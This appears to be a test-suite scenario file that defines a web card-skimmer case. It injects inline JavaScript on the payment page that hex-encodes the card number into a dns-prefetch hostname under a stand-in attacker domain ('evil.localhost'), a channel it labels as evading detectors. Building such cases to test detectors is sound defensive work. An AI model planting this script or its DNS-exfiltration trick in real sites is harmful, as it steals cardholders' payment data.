import { holds, js, skimmer } from '../behaviour.ts';
import { hex } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'dns-prefetch-names',
  why: 'A hint to look up a name whose first label is the card: no connection, no request, only the name server of the attacker is asked.',
  covers: ['hard: unusual channel', 'evade: detectors'],
  base: 'direct',
  needs: 'names',
  install: (site) =>
    site.inline(
      onPay(js`
    var link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = '//' + Array.from(card().slice(0, 26)).map(function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join('') + '.evil.localhost';
    document.head.append(link);`),
    ),
  proof: holds((arrived) => arrived.names.map((name) => hex(name.split('.')[0] ?? '').toString('latin1'))),
});
